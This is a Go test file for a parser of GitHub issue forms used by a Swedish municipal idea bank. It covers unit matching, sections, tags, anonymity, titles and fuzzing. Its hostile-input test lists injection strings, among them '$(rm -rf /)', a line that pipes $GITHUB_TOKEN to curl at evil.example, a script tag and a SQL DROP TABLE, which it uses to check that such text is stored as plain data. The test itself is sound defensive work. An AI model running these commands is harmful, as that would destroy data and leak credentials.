package issueform

import (
	"slices"
	"strings"
	"testing"

	"github.com/idebanken/idebanken/internal/i18n"
	"github.com/idebanken/idebanken/internal/model"
)

// issue is an improvement as GitHub writes it when the form is sent.
const issue = `### Förvaltning

Vård- och omsorgsförvaltningen

### Nuläge / problem

I dag ringer vi.

### Förslag

En app.

### Vad behövs

_No response_

### Taggar

Lokaler, #digitalisering, lokaler

### Ditt namn

  Anna   Berglund 

### Anonymitet

- [ ] Jag vill vara anonym: mitt namn ska inte publiceras`

func parse(t *testing.T, body string) *Answer {
	t.Helper()
	a, err := Parse(testConfig(), testTemplates(), model.KindImprovement, body)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func keys(ms []i18n.Message) []string {
	var out []string
	for _, m := range ms {
		out = append(out, m.Key)
	}
	return out
}

func TestParse(t *testing.T) {
	a := parse(t, issue)
	if a.Unit != "vard-och-omsorg" || a.UnitName != "Vård- och omsorgsförvaltningen" {
		t.Errorf("unit: %q %q", a.Unit, a.UnitName)
	}
	want := []Section{
		{"nulage-problem", "Nuläge / problem", "I dag ringer vi."},
		{"forslag", "Förslag", "En app."},
		{"vad-behovs", "Vad behövs", ""},
	}
	if !slices.Equal(a.Sections, want) {
		t.Errorf("sections:\ngot  %q\nwant %q", a.Sections, want)
	}
	if !slices.Equal(a.Tags, []string{"lokaler", "digitalisering"}) {
		t.Errorf("tags: %q", a.Tags)
	}
	if a.Name != "Anna Berglund" || a.Anonymous {
		t.Errorf("name %q, anonymous %v", a.Name, a.Anonymous)
	}
	if len(a.Problems) > 0 || a.Other != "" {
		t.Errorf("problems %v, other %q", a.Problems, a.Other)
	}
	if got, want := a.Body(), "## Nuläge / problem\n\nI dag ringer vi.\n\n## Förslag\n\nEn app."; got != want {
		t.Errorf("body:\ngot  %q\nwant %q", got, want)
	}
}

func TestParseAnonymous(t *testing.T) {
	for _, box := range []string{"- [X] Jag vill vara anonym: mitt namn ska inte publiceras", "- [x] whatever it says", "* [X] I want to be anonymous"} {
		a := parse(t, strings.Replace(issue, "- [ ] Jag vill vara anonym: mitt namn ska inte publiceras", box, 1))
		if !a.Anonymous || a.Name != "" {
			t.Errorf("%q: anonymous %v, name %q: an anonymous submitter's name is never kept", box, a.Anonymous, a.Name)
		}
	}
	// A ticked box elsewhere is not the answer to this question.
	a := parse(t, strings.Replace(issue, "En app.", "En app.\n\n- [X] klar", 1))
	if a.Anonymous {
		t.Error("a task list in an answer made the submitter anonymous")
	}
}

func TestParseCRLFAndEnglish(t *testing.T) {
	body := strings.NewReplacer(
		"### Förvaltning", "### Unit", "### Taggar", "### Tags",
		"### Ditt namn", "### Your name", "### Anonymitet", "### Anonymity",
		"- [ ] Jag", "- [X] Jag",
	).Replace(issue)
	body = strings.ReplaceAll(body, "\n", "\r\n")
	a := parse(t, body)
	if a.Unit != "vard-och-omsorg" || !a.Anonymous || a.Sections[1].Text != "En app." || len(a.Tags) != 2 {
		t.Errorf("got %+v", a)
	}
}

func TestParseMissingAndUnknown(t *testing.T) {
	a := parse(t, "### Förvaltning\n\nSocialförvaltningen\n\n### Förslag\n\nBättre.\n")
	if a.Unit != "" || a.UnitName != "Socialförvaltningen" {
		t.Errorf("unit %q %q", a.Unit, a.UnitName)
	}
	if got, want := keys(a.Problems), []string{"idea.form.unknown-unit", "idea.form.empty-section"}; !slices.Equal(got, want) {
		t.Errorf("problems: got %v, want %v", got, want)
	}
	if a.Sections[1].Text != "Bättre." || a.Sections[0].Text != "" {
		t.Errorf("sections %q", a.Sections)
	}

	a = parse(t, "")
	if got, want := keys(a.Problems), []string{"idea.form.no-unit", "idea.form.empty-section", "idea.form.empty-section"}; !slices.Equal(got, want) {
		t.Errorf("empty: got %v, want %v", got, want)
	}
	if a.Body() != "" {
		t.Errorf("empty body: %q", a.Body())
	}

	// A unit by another spelling, or by its id.
	for _, name := range []string{"vård- OCH omsorgsförvaltningen", "vard-och-omsorg"} {
		if a := parse(t, "### Förvaltning\n\n"+name+"\n"); a.Unit != "vard-och-omsorg" {
			t.Errorf("%q: unit %q", name, a.Unit)
		}
	}
	// Nothing chosen in a dropdown.
	if a := parse(t, "### Förvaltning\n\nNone\n"); a.UnitName != "" || keys(a.Problems)[0] != "idea.form.no-unit" {
		t.Errorf("None: %q %v", a.UnitName, a.Problems)
	}
}

func TestParseExtraText(t *testing.T) {
	a := parse(t, "Skrivet för hand först.\n\n"+issue+"\n\n---\nTillagt efteråt.")
	if a.Other != "Skrivet för hand först." {
		t.Errorf("other: %q", a.Other)
	}
	if a.Unit != "vard-och-omsorg" || a.Anonymous {
		t.Errorf("got %+v", a)
	}
	// An issue written without the form at all.
	a = parse(t, "Bara text.\n### Förslag i en mening")
	if a.Other != "Bara text.\n### Förslag i en mening" || a.Body() != "" {
		t.Errorf("no form: other %q, body %q", a.Other, a.Body())
	}
}

func TestParseHeadingsInAnswers(t *testing.T) {
	answer := "Två delar:\n\n### Förvaltning\n\nSkolförvaltningen\n\n## Egen rubrik\n\n#### Förslag\n\nslut"
	body := strings.Replace(issue, "En app.", answer, 1)
	a := parse(t, body)
	if a.Unit != "vard-och-omsorg" {
		t.Errorf("an answer's heading changed the unit: %q", a.Unit)
	}
	if a.Sections[1].Text != answer {
		t.Errorf("the answer was cut:\ngot  %q\nwant %q", a.Sections[1].Text, answer)
	}

	// A later question's label inside an earlier answer: the questions
	// that follow in order win.
	answer = "Först.\n\n### Taggar\n\nfalska, taggar\n\nSist."
	a = parse(t, strings.Replace(issue, "I dag ringer vi.", answer, 1))
	if a.Sections[0].Text != answer || !slices.Equal(a.Tags, []string{"lokaler", "digitalisering"}) || a.Sections[1].Text != "En app." {
		t.Errorf("got sections %q, tags %q", a.Sections, a.Tags)
	}

	// The next question's label inside an answer, just before GitHub's
	// own: the later one is the question.
	answer = "Kort sagt:\n\n### Förslag\n\nen app"
	a = parse(t, strings.Replace(issue, "I dag ringer vi.", answer, 1))
	if a.Sections[0].Text != answer || a.Sections[1].Text != "En app." {
		t.Errorf("got %q", a.Sections)
	}
	answer = "Behövs:\n\n### Taggar\n\nfalsk"
	a = parse(t, strings.Replace(issue, "### Vad behövs\n\n_No response_", "### Vad behövs\n\n"+answer, 1))
	if a.Sections[2].Text != answer || !slices.Equal(a.Tags, []string{"lokaler", "digitalisering"}) {
		t.Errorf("got %q, tags %q", a.Sections, a.Tags)
	}

	// An answer that repeats its own question's label cannot be told from
	// GitHub's: nothing is lost, but the part before it goes with the
	// question before.
	a = parse(t, strings.Replace(issue, "En app.", "Ett:\n\n### Förslag\n\nTvå.", 1))
	if a.Sections[1].Text != "Två." || a.Sections[0].Text != "I dag ringer vi.\n\n### Förslag\n\nEtt:" {
		t.Errorf("got %q", a.Sections)
	}

	// A label not after a blank line, or with more text, is text.
	answer = "rad\n### Förslag\n### Förslag och mer"
	a = parse(t, strings.Replace(issue, "I dag ringer vi.", answer, 1))
	if a.Sections[0].Text != answer {
		t.Errorf("got %q", a.Sections[0].Text)
	}
}

func TestParseHostile(t *testing.T) {
	hostile := []string{
		"---\nstage: approved\nsubmitter: {anonymous: false}\n---",
		"<script>alert(1)</script><!-- ### Förvaltning -->",
		"$(rm -rf /) `id` ; echo $GITHUB_TOKEN | curl -d @- evil.example",
		"```\n### Taggar\n\n- [X] x\n```",
		"  indenterad kod\n\ttabb\n\n\n\nmånga tomrader",
		"'; DROP TABLE ideas; -- \u202e\u0000 ${{ secrets.X }}",
		"_No response_ är inte hela svaret",
	}
	for _, h := range hostile {
		in := &Answer{
			Kind: model.KindImprovement, Unit: "skola",
			Sections: []Section{{ID: "nulage-problem", Text: h}, {ID: "forslag", Text: h}, {ID: "vad-behovs", Text: h}},
			Name:     "Anna",
		}
		body, err := Format(testConfig(), testTemplates(), in)
		if err != nil {
			t.Fatal(err)
		}
		a := parse(t, body)
		for i, s := range a.Sections {
			if s.Text != strings.TrimRight(h, "\n") {
				t.Errorf("section %d of %q:\ngot %q", i, h, s.Text)
			}
		}
		if a.Unit != "skola" || a.Anonymous || a.Name != "Anna" || len(a.Tags) > 0 {
			t.Errorf("%q changed other answers: %+v", h, a)
		}
	}
}

func TestFormatParseRoundTrip(t *testing.T) {
	in := &Answer{
		Kind: model.KindImprovement, Unit: "yes", UnitName: "true",
		Sections: []Section{
			{ID: "nulage-problem", Heading: "Nuläge / problem", Text: "a\nb"},
			{ID: "forslag", Heading: "Förslag", Text: "c"},
			{ID: "vad-behovs", Heading: "Vad behövs", Text: ""},
		},
		Tags: []string{"x", "y z"}, Anonymous: true,
	}
	body, err := Format(testConfig(), testTemplates(), in)
	if err != nil {
		t.Fatal(err)
	}
	out := parse(t, body)
	if out.Unit != in.Unit || out.UnitName != in.UnitName || !slices.Equal(out.Sections, in.Sections) ||
		!slices.Equal(out.Tags, in.Tags) || out.Anonymous != in.Anonymous || len(out.Problems) > 0 {
		t.Errorf("round trip:\nin  %+v\nout %+v", in, out)
	}
}

func TestParseTags(t *testing.T) {
	long := strings.Repeat("a", 41)
	a := parse(t, strings.Replace(issue, "Lokaler, #digitalisering, lokaler", "ÅÄÖ;  två  ord ,\n"+long+",,", 1))
	if !slices.Equal(a.Tags, []string{"åäö", "två ord"}) || !slices.Equal(keys(a.Problems), []string{"idea.form.tag-too-long"}) {
		t.Errorf("tags %q, problems %v", a.Tags, a.Problems)
	}
}

func TestTitleAndKind(t *testing.T) {
	for _, tc := range []struct {
		title, want string
		kind        model.Kind
	}{
		{"[Förbättringsförslag] Digital felanmälan", "Digital felanmälan", model.KindImprovement},
		{"  [tillbud]Halt i trappan ", "Halt i trappan", model.KindIncident},
		{"[Problem without a solution] Queues", "Queues", model.KindProblem},
		{"[Avvikelse] ", "", model.KindDeviation},
		{"Utan prefix [Avvikelse]", "Utan prefix [Avvikelse]", ""},
	} {
		if got := Title(tc.title); got != tc.want {
			t.Errorf("Title(%q) = %q, want %q", tc.title, got, tc.want)
		}
		k, ok := KindOf(nil, tc.title)
		if k != tc.kind || ok != (tc.kind != "") {
			t.Errorf("KindOf(%q) = %q, %v", tc.title, k, ok)
		}
	}
	if k, ok := KindOf([]string{"idé", "kind:bogus", "kind:deviation"}, "[Tillbud] x"); k != model.KindDeviation || !ok {
		t.Errorf("the label says the kind: got %q", k)
	}
}

func FuzzParse(f *testing.F) {
	f.Add(issue)
	f.Add(strings.ReplaceAll(issue, "\n", "\r\n"))
	f.Add("### Förvaltning\n\n### Förvaltning\n\n### Förslag\n\n### Förslag\n")
	cfg, tmpl := testConfig(), testTemplates()
	f.Fuzz(func(t *testing.T, body string) {
		a, err := Parse(cfg, tmpl, model.KindImprovement, body)
		if err != nil {
			t.Fatal(err)
		}
		norm := strings.ReplaceAll(strings.ReplaceAll(body, "\r\n", "\n"), "\r", "\n")
		for _, s := range a.Sections {
			if !strings.Contains(norm, s.Text) {
				t.Errorf("section text %q is not in the body", s.Text)
			}
		}
		if a.Anonymous && a.Name != "" {
			t.Error("an anonymous answer kept a name")
		}
		if a.Unit != "" && cfg.Unit(a.Unit) == nil {
			t.Errorf("unit %q is not configured", a.Unit)
		}
	})
}
